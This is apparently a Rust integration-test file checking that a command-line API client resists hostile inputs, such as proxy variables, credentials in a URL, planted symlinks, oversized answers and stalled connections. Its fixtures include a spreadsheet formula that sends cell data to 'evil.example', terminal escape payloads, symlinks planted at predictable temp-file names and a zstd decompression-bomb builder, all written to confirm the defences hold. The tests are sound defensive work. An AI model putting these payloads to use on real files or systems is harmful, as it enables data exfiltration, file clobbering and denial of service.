//! Hostile surroundings (issue 39), through the real binary: a proxy in the environment, a
//! base URL carrying credentials. One test per promise.

use std::io::Read;
use std::net::TcpListener;
use std::time::Duration;

use crate::apply::sample;
use crate::util::{Emu, KEY, Run};

/// A listener that records what reaches it: a proxy that must see nothing.
struct Trap {
    listener: TcpListener,
}

impl Trap {
    fn new() -> Trap {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Trap { listener }
    }

    fn url(&self) -> String {
        format!("http://{}", self.listener.local_addr().unwrap())
    }

    /// Everything sent to it so far (each connection read for a moment).
    fn seen(&self) -> String {
        let mut all = String::new();
        while let Ok((mut conn, _)) = self.listener.accept() {
            conn.set_nonblocking(false).unwrap();
            conn.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
            let mut buf = [0u8; 4096];
            let n = conn.read(&mut buf).unwrap_or(0);
            all.push_str(&String::from_utf8_lossy(&buf[..n]));
            all.push_str("\n--\n");
        }
        all
    }
}

/// With every proxy variable pointing at a listener, a run against the loopback emulator goes
/// straight to it: the proxy gets no connection, and so never the key in clear.
#[test]
fn a_loopback_base_url_never_goes_through_a_proxy() {
    let (w, emu, trap) = (sample(), Emu::start(), Trap::new());
    let run = |args: &[&str]| -> Run {
        let mut cmd = w.command(args);
        for var in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"] {
            cmd.env(var, trap.url());
        }
        cmd.env_remove("NO_PROXY").env_remove("no_proxy");
        let out = cmd.env("TELEMETRON_BASE_URL", &emu.base_url).env("TELEMETRON_API_KEY", KEY).output().unwrap();
        Run {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    };
    let day1 = ["apply", "--config", "sample-data/config.toml", "--input-dir", "sample-data/day1", "--state", "s.db"];
    let applied = run(&[&day1[..], &["--timeout", "3", "--max-retries", "0"]].concat());
    let seen = trap.seen();
    assert!(seen.is_empty(), "the proxy saw:\n{seen}");
    assert_eq!(applied.code, 0, "{}", applied.stderr);
    let query = run(&["customer", "query", "amanda.thompson@example.com", "--timeout", "3"]);
    assert_eq!(query.code, 0, "{}", query.stderr);
    assert!(trap.seen().is_empty());
}

/// A base URL with `user:password@` is refused before anything is sent, and neither part is
/// echoed anywhere.
#[test]
fn a_base_url_with_credentials_is_refused_and_never_shown() {
    let (w, emu) = (sample(), Emu::start());
    let with_credentials = emu.base_url.replace("http://", "http://ann:s3cret-pw@");
    for args in [
        &["apply", "--config", "sample-data/config.toml", "--input-dir", "sample-data/day1", "--state", "s.db"][..],
        &["customer", "query", "a@x.io"][..],
    ] {
        let run = w.run_at(&with_credentials, KEY, args);
        assert_ne!(run.code, 0, "{args:?}");
        assert!(run.stderr.contains("user name or password"), "{args:?}: {}", run.stderr);
        assert!(!format!("{}{}", run.stdout, run.stderr).contains("s3cret-pw"), "{args:?}: {}", run.stderr);
        assert!(!run.stderr.contains("ann:"), "{}", run.stderr);
    }
    assert!(emu.emulator.requests().is_empty(), "nothing was sent");
}

/// The rejects file is made to be opened in a spreadsheet: no cell of it is a live formula, and
/// no control character of the export (a terminal escape) survives in it.
#[test]
fn the_rejects_file_holds_no_formula_and_no_control_character() {
    let w = crate::util::Workdir::new();
    w.write(
        "customers.csv",
        "email,name\na@x.io,Ann\n\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&B2,\"\"Click\"\")\",Eve\n+cmd@x,Plus\n@SUM(1),At\nb@x.io,\"\u{1b}]0;pwned\u{7}Bob\"\n-2+3,Minus\n",
    );
    let run = w.run(&["plan", "--customers", "customers.csv", "--state", "s.db", "--rejects", "r.csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = w.read("r.csv");
    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
    let mut rows = csv::Reader::from_reader(text.as_bytes());
    let mut n = 0;
    for row in rows.records() {
        let row = row.unwrap();
        n += 1;
        for cell in row.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live cell: {cell:?}");
        }
    }
    assert_eq!(n, 5, "{text}");
    assert!(text.contains("'=HYPERLINK("), "the formula is kept as text: {text}");
}

/// Text from outside is inert on a terminal: a server's message holding escape sequences (set
/// the title, clear the screen, the 8-bit CSI) and an export's cells holding them reach stderr
/// and stdout escaped, never raw.
#[test]
fn escape_sequences_from_a_server_or_an_export_never_reach_the_terminal() {
    let raw = |s: &str| s.contains(['\u{1b}', '\u{7}', '\u{9b}']);
    let server = crate::hostile_server::hostile();
    *server.answer.lock().unwrap() = crate::hostile_server::Answer {
        status: 400,
        headers: vec![("content-type", "application/json".into())],
        body: br#"{"success": false, "error": "\u001b]0;pwned\u0007\u001b[2J bad \u009b1m"}"#.to_vec(),
    };
    let w = sample();
    for args in [
        &["customer", "query", "a@x.io"][..],
        &["apply", "--config", "sample-data/config.toml", "--input-dir", "sample-data/day1", "--state", "s.db"][..],
        &["--log-format", "json", "customer", "query", "a@x.io"][..],
    ] {
        let run = w.run_at(&server.base_url, KEY, args);
        assert!([1, 3].contains(&run.code), "{args:?}: {}", run.stderr);
        assert!(!raw(&run.stdout) && !raw(&run.stderr), "{args:?}: {:?}", run.stderr);
        assert!(run.stderr.contains("]0;pwned"), "{args:?}: the message is still shown: {}", run.stderr);
    }

    w.write("x/customers.csv", "email,name\na@x.io,\"\u{1b}]0;pwned\u{7}Ann\"\nb@x.io,Bob \u{9b}2J\nc@x.io,Cy\n");
    w.write("x/devices.csv", "identifier,type,note\nD1,t,\"x\u{1b}[2J\u{9b}1my\"\nD2,t,ok\n");
    for format in ["text", "markdown", "json"] {
        let run = w.run(&["plan", "--input-dir", "x", "--state", "s2.db", "--format", format]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        assert!(!raw(&run.stdout) && !raw(&run.stderr), "{format}: {:?}\n{:?}", run.stdout, run.stderr);
    }
}

/// Links planted where the tool writes are never followed: the temp files of the files it
/// replaces (metrics, reports, rejects) have names no one can guess and are created
/// exclusively; a lock file that is a link (or has other names) is refused, not truncated; a
/// `--state` that is a link to nothing is refused, not created with the umask's mode. The
/// metrics file is at most 0644, whatever the umask.
#[cfg(unix)]
#[test]
fn planted_links_are_never_followed() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    use std::os::unix::process::CommandExt;
    let w = sample();
    w.write("victim.txt", "precious\n");
    let victim = w.join("victim.txt");
    let day1 = ["--config", "sample-data/config.toml", "--input-dir", "sample-data/day1"];

    // The temp name of old was `.NAME.PID.tmp`: links for the next pids stand ready.
    let next = std::process::Command::new("true").spawn().unwrap();
    let pid = next.id();
    for p in pid..pid + 400 {
        for name in ["m.prom", "report.md", "r.csv"] {
            let _ = symlink(&victim, w.join(&format!(".{name}.{p}.tmp")));
        }
    }
    let mut cmd = w.command(
        &[
            &["--metrics-file", "m.prom", "plan"][..],
            &day1,
            &["--state", "s.db", "--format", "markdown", "--out-report", "report.md", "--rejects", "r.csv"],
        ]
        .concat(),
    );
    // SAFETY: umask is async-signal-safe and touches nothing but the child's mask.
    unsafe {
        cmd.pre_exec(|| {
            libc::umask(0);
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(w.read("victim.txt"), "precious\n", "a planted link was followed");
    let mode = std::fs::metadata(w.join("m.prom")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o644, "the metrics file under umask 000");

    // A lock file that is a link, or a second name of another file, is refused by name.
    symlink(&victim, w.join("s.db.lock")).unwrap();
    let run = w.run(&[&["baseline"][..], &day1, &["--state", "s.db"]].concat());
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("s.db.lock") && run.stderr.contains("symbolic link"), "{}", run.stderr);
    std::fs::remove_file(w.join("s.db.lock")).unwrap();
    std::fs::hard_link(&victim, w.join("s.db.lock")).unwrap();
    let run = w.run(&[&["baseline"][..], &day1, &["--state", "s.db"]].concat());
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("hard links"), "{}", run.stderr);
    assert_eq!(w.read("victim.txt"), "precious\n", "the lock file's victim was changed");
    std::fs::remove_file(w.join("s.db.lock")).unwrap();

    // A --state that is a link to nothing is refused; nothing is created at its target.
    symlink(w.join("elsewhere.db"), w.join("dangling.db")).unwrap();
    let run = w.run(&[&["baseline"][..], &day1, &["--state", "dangling.db"]].concat());
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("symbolic link"), "{}", run.stderr);
    assert!(!w.join("elsewhere.db").exists());
    let _ = next.wait_with_output();
}

/// A config error says where and what, never the value: an API key pasted under a mistyped
/// name stays out of stderr, text and JSON alike. The HTML report runs only its own style and
/// script (by hash), posts no form and takes no `<base>`.
#[test]
fn config_errors_echo_no_value_and_the_html_report_runs_only_its_own_code() {
    let w = sample();
    for (config, place) in [
        ("[api]\napi_kye = \"tlm_live_SECRET123\"\n", "line 2"),
        ("[run]\nconcurrency = \"tlm_live_SECRET123\"\n", "line 2"),
        ("[api]\nbase_url = \"tlm_live_SECRET123\n", "line 2"),
        ("[run]\nrate = \"tlm_live_SECRET123\"\n", "run.rate"),
        ("[run]\nmax_duration = \"tlm_live_SECRET123\"\n", "run.max_duration"),
        ("[guard]\nmax_unassign = \"tlm_live_SECRET123\"\n", "guard.max_unassign"),
    ] {
        w.write("bad.toml", config);
        for json in [false, true] {
            let mut args = vec!["apply", "--config", "bad.toml", "--input-dir", "sample-data/day1", "--state", "s.db"];
            if json {
                args.extend(["--log-format", "json"]);
            }
            let run = w.run(&args);
            assert_eq!(run.code, 1, "{}", run.stderr);
            assert!(run.stderr.contains(place), "{config:?}: {}", run.stderr);
            assert!(
                !run.stderr.contains("SECRET123") && !run.stdout.contains("SECRET123"),
                "{config:?}: {}",
                run.stderr
            );
        }
    }

    let html = w
        .run(&[
            "plan",
            "--config",
            "sample-data/config.toml",
            "--input-dir",
            "sample-data/day1",
            "--state",
            "s.db",
            "--format",
            "html",
        ])
        .expect(0)
        .stdout;
    let csp = html.split("Content-Security-Policy\" content=\"").nth(1).and_then(|r| r.split('"').next()).unwrap();
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    for part in
        ["default-src 'none'", "form-action 'none'", "base-uri 'none'", "style-src 'sha256-", "script-src 'sha256-"]
    {
        assert!(csp.contains(part), "{part} not in {csp}");
    }
}

/// What is written to a measured run's stdin.
type Feed = Box<dyn FnOnce(&mut dyn std::io::Write) + Send>;

/// Runs `cmd` (with `--log-format json`) to its end, with `input` written to its stdin
/// meanwhile; its outcome and the peak resident memory its `run_finished` line reports (the
/// process's own high-water mark since its exec: a measure taken from outside, such as
/// `wait4`'s, also counts the test process it was forked from).
fn run_measured(cmd: &mut std::process::Command, input: Option<Feed>) -> (Run, u64) {
    use std::io::Read;
    use std::process::Stdio;
    let mut child = cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let feeder = std::thread::spawn(move || {
        if let Some(f) = input {
            f(&mut stdin);
        }
    });
    let mut err = child.stderr.take().unwrap();
    let err = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = err.read_to_string(&mut s);
        s
    });
    let out = child.wait_with_output().unwrap();
    let _ = feeder.join();
    let stderr = err.join().unwrap();
    let finished: serde_json::Value =
        stderr.lines().rev().find_map(|l| serde_json::from_str(l).ok()).unwrap_or_else(|| panic!("{stderr}"));
    let peak = finished["peak_rss_mib"].as_u64().unwrap_or_else(|| panic!("{finished}"));
    let run = Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr,
    };
    (run, peak)
}

/// No server answer and no event line can make the tool hold more than a bounded amount: a
/// 300 MB answer (chunked, no length given) is read up to 16 MiB and refused; a 300 MB event
/// line is refused after 64 KiB. Each run stays under 100 MB.
#[test]
fn a_huge_answer_or_event_line_is_refused_within_bounded_memory() {
    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
    let base_url = rt.block_on(async {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let app = axum::Router::new().fallback(|| async {
            let chunk = bytes_of(1 << 20);
            let stream = futures::stream::iter((0..300).map(move |_| Ok::<_, std::io::Error>(chunk.clone())));
            axum::response::Response::new(axum::body::Body::from_stream(stream))
        });
        tokio::spawn(async move { axum::serve(listener, app).await });
        format!("http://{addr}/api/ext-v1")
    });
    let w = crate::util::Workdir::new();
    let mut cmd = w.command(&["--log-format", "json", "customer", "query", "a@x.io", "--timeout", "60"]);
    cmd.env("TELEMETRON_BASE_URL", &base_url).env("TELEMETRON_API_KEY", KEY);
    let (run, peak) = run_measured(&mut cmd, None);
    eprintln!("a 300 MB answer: exit {}, peak {peak} MiB", run.code);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("over 16 MiB"), "{}", run.stderr);
    assert!(peak < 100, "peak {peak} MiB");

    let emu = Emu::start();
    let mut cmd = w.command(&["--log-format", "json", "event", "--stdin", "--state", "s.db"]);
    cmd.env("TELEMETRON_BASE_URL", &emu.base_url).env("TELEMETRON_API_KEY", KEY);
    let feed: Feed = Box::new(|stdin| {
        let chunk = vec![b'a'; 1 << 20];
        let _ = stdin.write_all(b"{\"event\": \"");
        for _ in 0..300 {
            if stdin.write_all(&chunk).is_err() {
                return;
            }
        }
    });
    let (run, peak) = run_measured(&mut cmd, Some(feed));
    eprintln!("a 300 MB event line: exit {}, peak {peak} MiB", run.code);
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("over 64 KiB"), "{}", run.stderr);
    assert!(peak < 100, "peak {peak} MiB");
}

fn bytes_of(n: usize) -> axum::body::Bytes {
    axum::body::Bytes::from(vec![b'x'; n])
}

/// The emulator, meant for this machine, says so when it listens where others can reach it.
/// Starts the real binary's emulator with `cmd`; returns it and the first line it printed (its
/// address).
fn spawn_emulator(cmd: &mut std::process::Command) -> (std::process::Child, String) {
    use std::io::{BufRead, BufReader};
    use std::process::Stdio;
    let mut child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut first = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut first).unwrap();
    (child, first)
}

#[test]
fn an_emulator_reachable_from_other_machines_warns() {
    let w = crate::util::Workdir::new();
    for (listen, warns) in [("0.0.0.0:0", true), ("127.0.0.1:0", false)] {
        let (child, first) =
            spawn_emulator(w.command(&["emulator", "--listen", listen]).env("TELEMETRON_API_KEY", KEY));
        assert!(first.contains("emulator listening"), "{first}");
        // SAFETY: SIGTERM to our own child, which ends it as Ctrl-C would.
        unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stderr.contains("other machines can reach"), warns, "{listen}: {stderr}");
        assert!(!stderr.contains(KEY), "{stderr}");
    }
}

/// A damaged snapshot is refused before any call, and left exactly as it was: 4 KiB of zeros in
/// the middle of a page (read as valid rows before page checksums: 44 spurious updates).
/// `plan` and `apply` refuse, naming the file and what to do; `snapshot check` names the page.
#[test]
fn a_damaged_snapshot_is_refused_before_any_call_and_left_as_it_was() {
    let (w, emu) = (crate::util::Workdir::new(), Emu::start());
    let mut devices = String::from("identifier,type,site\n");
    for i in 0..4000 {
        devices.push_str(&format!("SN-{:07},thermostat,Zürich Hauptbahnhof Gleis {}\n", (i * 7919) % 100_003, i % 17));
    }
    w.write("devices.csv", devices);
    w.run(&["baseline", "--devices", "devices.csv", "--state", "s.db"]).expect(0);
    let clean = std::fs::read(w.join("s.db")).unwrap();
    let size = u16::from_be_bytes([clean[16], clean[17]]) as usize;
    let pages = clean.len() / size;
    assert!(pages >= 8, "{pages} pages");
    for page in [pages / 2, pages - 1] {
        let mut bytes = clean.clone();
        let at = page * size + size / 2 - 2048;
        bytes[at..at + 4096].fill(0);
        std::fs::write(w.join("s.db"), &bytes).unwrap();

        let plan = w.run(&["plan", "--devices", "devices.csv", "--state", "s.db"]);
        assert_eq!(plan.code, 1, "page {page}: {}{}", plan.stdout, plan.stderr);
        assert!(plan.stderr.contains("s.db") && plan.stderr.contains("is damaged"), "{}", plan.stderr);
        assert!(plan.stderr.contains("backup") && plan.stderr.contains("verify --all --heal"), "{}", plan.stderr);

        let apply = w.run_api(&emu, &["apply", "--devices", "devices.csv", "--state", "s.db"]);
        assert_eq!(apply.code, 1, "page {page}: {}", apply.stderr);
        assert!(apply.stderr.contains(&format!("page {} of {pages} does not match", page + 1)), "{}", apply.stderr);
        assert!(!apply.stderr.contains("Free space"), "the wrong hint: {}", apply.stderr);

        let check = w.run(&["snapshot", "check", "--state", "s.db"]);
        assert_eq!(check.code, 1, "{}{}", check.stdout, check.stderr);
        assert!(check.stdout.contains(&format!("page {} of {pages} does not match", page + 1)), "{}", check.stdout);

        assert!(std::fs::read(w.join("s.db")).unwrap() == bytes, "page {page}: the file was changed");
        let wal = std::fs::metadata(w.join("s.db-wal")).map_or(0, |m| m.len());
        assert_eq!(wal, 0, "nothing was written beside it either");
        assert!(!w.join("s.db-journal").exists());
    }
    assert!(emu.emulator.requests().is_empty(), "no call was made");
    std::fs::write(w.join("s.db"), &clean).unwrap();
    let check = w.run(&["snapshot", "check", "--state", "s.db"]);
    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);
    assert!(
        check.stdout.contains("every checksum matches") && check.stdout.contains("integrity: ok"),
        "{}",
        check.stdout
    );
    w.run(&["plan", "--devices", "devices.csv", "--state", "s.db"]).expect(0);
}

/// Sends `raw` on a new connection to `addr` and reads what comes back until the server closes
/// it or `wait` passes: the answer, and how long the server took to close (`None`: it did not).
fn exchange(addr: &str, raw: &str, wait: Duration) -> (String, Option<Duration>) {
    use std::io::Write;
    let mut conn = std::net::TcpStream::connect(addr).unwrap();
    conn.set_read_timeout(Some(wait)).unwrap();
    let t = std::time::Instant::now();
    conn.write_all(raw.as_bytes()).unwrap();
    let (mut got, mut buf) = (Vec::new(), [0u8; 4096]);
    loop {
        match conn.read(&mut buf) {
            Ok(0) | Err(_) if t.elapsed() < wait => {
                return (String::from_utf8_lossy(&got).into_owned(), Some(t.elapsed()));
            }
            Ok(0) | Err(_) => return (String::from_utf8_lossy(&got).into_owned(), None),
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    }
}

/// The emulator (issue 39, item 7), through the real binary: its admin routes need the key like
/// the API, checked before a body is read (a keyless upload that never comes is answered at
/// once); a connection that sends half its headers, or sits idle after an answer, is closed
/// after the header timeout; the request log keeps only the newest requests; and its key, read
/// from a file, is not on its command line for `ps` to show.
#[test]
fn the_emulator_checks_the_key_on_every_route_closes_stalled_connections_and_bounds_its_log() {
    let w = crate::util::Workdir::new();
    w.write("keys", format!("{KEY}\n"));
    let args = ["emulator", "--listen", "127.0.0.1:0", "--api-key-file", "keys", "--header-timeout", "1"];
    let (child, first) =
        spawn_emulator(w.command(&[&args[..], &["--request-log", "5"]].concat()).env_remove("TELEMETRON_API_KEY"));
    let addr = first.split("http://").nth(1).and_then(|r| r.split('/').next()).unwrap().to_string();
    let cmdline = std::fs::read(format!("/proc/{}/cmdline", child.id())).unwrap();
    assert!(!String::from_utf8_lossy(&cmdline).contains(KEY), "the key is on the command line");

    let wait = Duration::from_secs(5);
    let keyed = format!("x-api-key: {KEY}\r\n");
    for (method, path) in [("GET", "/_emulator/state"), ("GET", "/_emulator/requests"), ("POST", "/_emulator/drift")] {
        let ask = |key: &str| {
            let raw = format!(
                "{method} {path} HTTP/1.1\r\nhost: x\r\n{key}content-type: application/json\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{{}}"
            );
            exchange(&addr, &raw, wait).0
        };
        let without = ask("");
        assert!(without.starts_with("HTTP/1.1 401"), "{method} {path} without a key: {without}");
        let with = ask(&keyed);
        assert!(with.starts_with("HTTP/1.1 200") || with.starts_with("HTTP/1.1 400"), "{method} {path}: {with}");
    }
    // A keyless upload of 8 MB that never comes is answered at once, its body never awaited.
    let raw = "POST /_emulator/drift HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 8000000\r\n\r\n";
    let (answer, _) = exchange(&addr, raw, wait);
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");

    // Half a request's headers, then nothing: closed after the timeout, not held open.
    let (answer, closed) = exchange(&addr, "GET /_emulator/state HTTP/1.1\r\nhost: x\r\n", wait);
    let closed = closed.unwrap_or_else(|| panic!("a half-sent request was held open: {answer}"));
    assert!(closed >= Duration::from_millis(900), "closed after {closed:?}");
    // An answered request on a kept-alive connection, then silence: closed too.
    let raw = format!("GET /_emulator/state HTTP/1.1\r\nhost: x\r\n{keyed}\r\n");
    let (answer, closed) = exchange(&addr, &raw, wait);
    assert!(answer.starts_with("HTTP/1.1 200") && closed.is_some(), "an idle connection was held open: {answer}");

    for i in 0..8 {
        let raw = format!(
            "POST /api/ext-v1/customer/queryCustomer HTTP/1.1\r\nhost: x\r\n{keyed}content-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{{\"email\":\"n{i}@x.io\"}}",
            r#"{"email":"nX@x.io"}"#.len()
        );
        exchange(&addr, &raw, wait);
    }
    let raw = format!("GET /_emulator/requests HTTP/1.1\r\nhost: x\r\n{keyed}connection: close\r\n\r\n");
    let (answer, _) = exchange(&addr, &raw, wait);
    let body = answer.split("\r\n\r\n").nth(1).unwrap_or("");
    let log: serde_json::Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {answer}"));
    assert_eq!(log.as_array().map(Vec::len), Some(5), "{body}");
    assert!(answer.to_ascii_lowercase().contains("x-requests-dropped: 3"), "{answer}");
    // SAFETY: SIGTERM to our own child.
    unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
    let out = child.wait_with_output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stderr).contains(KEY));
}

/// A zstd file of `frames` frames, each `chunk` compressed: what a bomb looks like (a few KB that
/// expand to hundreds of MB), made without compressing hundreds of MB here.
fn zst_frames(first: &[u8], chunk: &[u8], frames: usize) -> Vec<u8> {
    let compress = |b: &[u8]| ruzstd::encoding::compress_to_vec(b, ruzstd::encoding::CompressionLevel::Fastest);
    let (head, body) = (compress(first), compress(chunk));
    let mut out = head;
    for _ in 0..frames {
        out.extend_from_slice(&body);
    }
    out
}

/// Hostile inputs cost memory in proportion to the limits, not to the file (issue 39, item 4):
/// a 100 MB line and a 7 KB `.zst` that expands to a 300 MB line are refused once a record runs
/// past 1 MiB; a 20 KB `.zst` of valid rows that expands 5,000 times is refused past 64 MiB; a
/// small `.zst` of 2 million rejected rows is planned, its first 10,000 rejects listed and the
/// rest counted. Every error names the file and the `[limits]` setting; every run stays under
/// 100 MB (the run's own `peak_rss_mib`).
#[test]
fn hostile_inputs_are_refused_or_counted_within_bounded_memory() {
    let w = crate::util::Workdir::new();
    let mut long = b"email,name\na@x.io,Ann\nb@x.io,".to_vec();
    long.resize(long.len() + (100 << 20), b'x');
    long.extend_from_slice(b"\nc@x.io,Cy\n");
    w.write("long.csv", long);
    w.write("bomb.csv.zst", zst_frames(b"email,name\nb@x.io,", &vec![b'y'; 1 << 20], 300));
    let row = b"bob@x.io,Bob\n";
    w.write("ratio.csv.zst", zst_frames(b"email,name\n", &row.repeat((1 << 20) / row.len()), 100));
    let bad = b"not an email,Bob\n";
    let per_chunk = (1 << 20) / bad.len();
    w.write("rejects.csv.zst", zst_frames(b"email,name\n", &bad.repeat(per_chunk), 2_000_000 / per_chunk + 1));
    let plan = |file: &str| {
        let args = ["--log-format", "json", "plan", "--customers", file, "--state", "s.db", "--format", "json"];
        run_measured(&mut w.command(&args), None)
    };
    for (file, says) in [
        ("long.csv", "runs past 1024 KiB without ending"),
        ("bomb.csv.zst", "runs past 1024 KiB without ending"),
        ("ratio.csv.zst", "expands more than 1000 times its stored size"),
    ] {
        let (run, peak) = plan(file);
        assert_eq!(run.code, 1, "{file}: {}", run.stderr);
        assert!(run.stderr.contains(file) && run.stderr.contains(says), "{file}: {}", run.stderr);
        assert!(run.stderr.contains("[limits] max_"), "{file}: {}", run.stderr);
        assert!(peak < 100, "{file}: peak {peak} MiB");
    }
    // Every row rejected: the file is refused (as a broken export), counted rows included.
    let (run, peak) = plan("rejects.csv.zst");
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("every one of its 2") && run.stderr.contains("row(s) was rejected"), "{}", run.stderr);
    assert!(peak < 100, "2 M rejected rows: peak {peak} MiB");
    // With one good row, the plan goes ahead: its first 10,000 rejects listed, the rest counted.
    let mut with_good = zst_frames(b"email,name\nann@x.io,Ann\n", b"", 0);
    with_good.extend_from_slice(&std::fs::read(w.join("rejects.csv.zst")).unwrap());
    w.write("mostly.csv.zst", with_good);
    let (run, peak) = plan("mostly.csv.zst");
    assert_eq!(run.code, 0, "{}", run.stderr);
    let doc: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let rejected = doc["summary"]["rejected_rows"].as_u64().unwrap();
    assert!(rejected >= 2_000_000, "{rejected}");
    assert_eq!(doc["rejected"].as_array().map(Vec::len), Some(10_000));
    assert!(peak < 100, "2 M rejected rows and one good: peak {peak} MiB");
    // A real export that needs more says so in the config.
    w.write("limits.toml", "[limits]\nmax_record_kib = 204800\n");
    let run = w.run(&["--config", "limits.toml", "plan", "--customers", "long.csv", "--state", "s.db"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
}
